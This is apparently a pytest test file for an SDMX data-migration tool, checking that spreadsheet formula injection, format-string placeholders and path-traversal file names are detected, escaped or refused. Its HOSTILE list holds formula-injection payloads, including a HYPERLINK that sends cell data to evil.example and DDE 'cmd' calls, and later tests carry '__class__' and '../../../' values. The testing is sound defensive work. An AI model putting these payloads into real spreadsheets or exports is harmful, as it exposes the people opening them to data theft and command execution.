"""Texts that a spreadsheet program would run: named where a table is data, shielded where people fill it in."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from console import Console
from folders import ROOT, write_files
from small_office import COUNTRY, POPULATION
from stored_findings import listed as findings_in

from sdmxmig.catalogue.agencies import Agency, read_agency
from sdmxmig.cli import run
from sdmxmig.primitives.errors import DeclarationError
from sdmxmig.primitives.text import RUNNING_FORMULA, fill_message, is_formula, shield_formula, unshield_formula
from sdmxmig.sdmx.declarations import Declared
from sdmxmig.sdmx.model.artefacts import Text
from sdmxmig.sdmx.model.findings import Finding
from sdmxmig.sdmx.words import list_untranslated, read_words

LINK = '=HYPERLINK("https://evil.example/?x="&A1,"Total")'
HOSTILE = [
    LINK,
    "=1+1",
    "= 1+1",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)",
    "+cmd|'/c calc'!A1",
    "-2+3+cmd|'/C calc'!A0",
    "-hyperlink(A1)",
    "+WEBSERVICE(A1)",
    '=IMPORTXML("https://evil.example","//a")',
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋SUM(A1)",
    "-1+IMAGE(A1)",
    "@INDIRECT(A1)",
]
HARMLESS = [
    "-5",
    "-5.3 %",
    "-",
    "–",
    "=",
    "- provisional",
    "- Break(s) in series",
    "-(see note 2)",
    "@office.example",
    "+995 32 236 72 10",
    "+/- 5",
    "A=B",
    "'=1+1",
    "a\n=1+1",
    "-1 to 5 years",
    "",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_detected_and_escaped(text: str) -> None:
    assert is_formula(text)
    assert pl.Series([text]).str.contains(RUNNING_FORMULA).item()
    assert shield_formula(text).lstrip().startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_text_resembling_a_formula_is_not_reported(text: str) -> None:
    assert not is_formula(text)
    assert not pl.Series([text]).str.contains(RUNNING_FORMULA).item()


@pytest.mark.parametrize("text", [*HOSTILE, *HARMLESS, "''-x", "' =x", "'", "''", "'tis", "'n'"])
def test_escaped_formula_is_restored(text: str) -> None:
    assert unshield_formula(shield_formula(text)) == text
    assert not is_formula(shield_formula(text))


def test_list_of_untranslated_texts_is_escaped_and_read_back() -> None:
    keys = [*(one for one in (*HOSTILE, *HARMLESS) if one), "{n} ships\0other", "=A1\0few"]
    written = list_untranslated(keys, "fr")
    cells = [cell for row in csv.reader(io.StringIO(written, newline="")) for cell in row]
    assert not [cell for cell in cells if is_formula(cell)]
    filled_in = io.StringIO(newline="")
    rows = list(csv.DictReader(io.StringIO(written, newline="")))
    writer = csv.DictWriter(filled_in, ["en", "form", "fr"])
    writer.writeheader()
    writer.writerows({**row, "fr": shield_formula(f"={row['en']}")} for row in rows)
    read = read_words(filled_in.getvalue())["fr"]
    assert set(read) == set(keys)
    assert read[LINK] == f"={shield_formula(LINK)}"


def office(folder: Path, table: str, more: str = "") -> Path:
    """A workspace with one table of men and women."""
    mapping = (
        f'id = "MAP_POP"\nflow = "DF_POP"\nfile = "office.csv"\n[[block]]\nsheet = "*"\nanchor = "Year"\n{POPULATION}'
    )
    files = {"country.toml": COUNTRY, "mappings/pop.toml": mapping + more, "tables/office.csv": table}
    return write_files(folder, files)


def named(folder: Path, *, code: int = 0) -> list[dict[str, Any]]:
    """The findings of `convert` about formulas; it ends with an exit code."""
    assert run(["convert", str(folder)]) == code
    findings = findings_in(folder / "out" / "data" / "conversion.jsonl")
    return [record for record in findings if record["rule"] == "MIG-0-015"]


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


NOTES = '[block.components.COMMENT_OBS]\nfrom = "column Note"\n'


@pytest.mark.parametrize("text", [text for text in HOSTILE if text.strip() == text])
def test_formula_in_a_table_is_reported_and_kept(text: str, tmp_path: Path) -> None:
    workspace = office(tmp_path, f"Year,Men,Women,Note\n2020,1,{quoted(text)},{quoted(text)}\n2021,3,4,x\n", NOTES)
    found = {record["component"]: record["place"]["cell"] for record in named(workspace, code=1)}
    assert found == {"OBS_VALUE": "C2", "COMMENT_OBS": "D2"}
    with (workspace / "out" / "data" / "DF_POP.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["COMMENT_OBS"] for row in rows if row["TIME_PERIOD"] == "2020"] == [text, text]
    assert text in [row["OBS_VALUE"] for row in rows]


def test_table_text_resembling_a_formula_is_not_reported(tmp_path: Path) -> None:
    lines = "".join(f"{2000 + at},{at},-{at},{quoted(text)}\n" for at, text in enumerate(HARMLESS))
    assert named(office(tmp_path, f"Year,Men,Women,Note\n{lines}", NOTES)) == []


def test_formula_in_a_mapping_is_reported_at_its_key(tmp_path: Path) -> None:
    workspace = office(tmp_path, "Year,Men,Women\n2020,1,2\n")
    mapping = workspace / "mappings" / "pop.toml"
    text = mapping.read_text(encoding="utf-8").replace('FREQ = "A"', f'FREQ = "A"\nCOMMENT_OBS = {json.dumps(LINK)}')
    mapping.write_text(text, encoding="utf-8")
    assert [record["place"]["key"] for record in named(workspace)] == ["block[1].fixed.COMMENT_OBS"]


def test_transform_names_columns_with_formulas(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    workspace = office(tmp_path, f"Year,Men,Women,Note\n2020,1,2,{quoted(LINK)}\n", NOTES)
    named(workspace)
    data = str(workspace / "out" / "data" / "DF_POP.csv")
    capsys.readouterr()
    assert run(["transform", data, "--to", "sdmx-csv-2.0", "-o", str(tmp_path / "again.csv")]) == 0
    assert "Texts of COMMENT_OBS are formulas to a spreadsheet program" in capsys.readouterr().err
    assert run(["transform", data, "--to", "sdmx-ml-3.0", "-o", str(tmp_path / "again.xml")]) == 0
    assert "formulas" not in capsys.readouterr().err
    assert quoted(LINK) in (tmp_path / "again.csv").read_text(encoding="utf-8")


def test_assess_reports_formulas_in_the_profile(tmp_path: Path, console: Console) -> None:
    workspace = tmp_path / "ws"
    shutil.copytree(ROOT / "templates" / "workspace", workspace)
    profile = workspace / "profile.toml"
    text = profile.read_text(encoding="utf-8").replace('practice.en = "', 'practice.en = "=HYPERLINK(A1)')
    profile.write_text(text, encoding="utf-8")
    assert run(["convert", str(workspace)]) == run(["validate", str(workspace)]) == 0
    console.readouterr()
    assert "Texts of ANSWER_TEXT are formulas" in console.errors("assess", workspace, code=0)


def test_formula_in_a_loaded_list_is_reported(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "ws" / "codelists").mkdir(parents=True)
    rows = f"id,parent,name_en,status,source\n,,Own,candidate,x\nA,,{quoted(LINK)},candidate,x\n"
    (tmp_path / "CL_OWN.csv").write_text(rows, encoding="utf-8")
    name = "NSO:CL_OWN(1.0)"
    assert run(["load", str(tmp_path / "CL_OWN.csv"), str(tmp_path / "ws"), "--as", name]) == 0
    assert "1 text of CL_OWN.1.0.csv would be run as a formula" in capsys.readouterr().err
    assert quoted(LINK) in (tmp_path / "ws" / "codelists" / "NSO" / "CL_OWN.1.0.csv").read_text(encoding="utf-8")


WIDE = "{value:>9999999999}"
INSIDE = "{value.__class__.__mro__}"


@pytest.mark.parametrize("message", [WIDE, INSIDE, "{value!r}", "{value[0]}", "{", "{{value}}", "{0}", "{}"])
def test_placeholders_in_foreign_messages_are_not_evaluated(message: str) -> None:
    finding = Finding(
        "X",
        "1",
        severity="error",
        level=1,
        flow="F",
        message=Text.of(en=message),
        hint=Text.of(en=message),
        parameters=(("value", "v"),),
    )
    assert (
        finding.sentence()
        == finding.remedy()
        == fill_message(message, {"value": "v"})
        == message.replace("{value}", "v")
    )
    words = read_words(f"en,fr\n{message},{message}\n")
    assert words["fr"][message] == message


@pytest.mark.parametrize(
    "name",
    ["../../../x.{suffix}", "{flow:>999999999}", "/etc/{flow}", "a\\b", "{flow.__class__}", "", ".x", "a b", "a\nb"],
)
def test_unsafe_file_names_of_an_agency_are_refused(name: str) -> None:
    with pytest.raises(DeclarationError):
        agency_naming(name)


def agency_naming(name: str) -> Agency:
    told = f'id = "X"\nname.en = "X"\nformats = ["sdmx-csv-2.0"]\nfile_name = {json.dumps(name)}\n'
    return read_agency(Declared.parse("X.toml", f'{told}status = "candidate"\nsource = "x"\n'.encode()))


@pytest.mark.parametrize("name", ["{flow}_{area}_{prepared}.{suffix}", "{flow}.{suffix}", "IMM-{area}.csv", "x"])
def test_agency_may_define_file_names(name: str) -> None:
    assert agency_naming(name).file_name == name
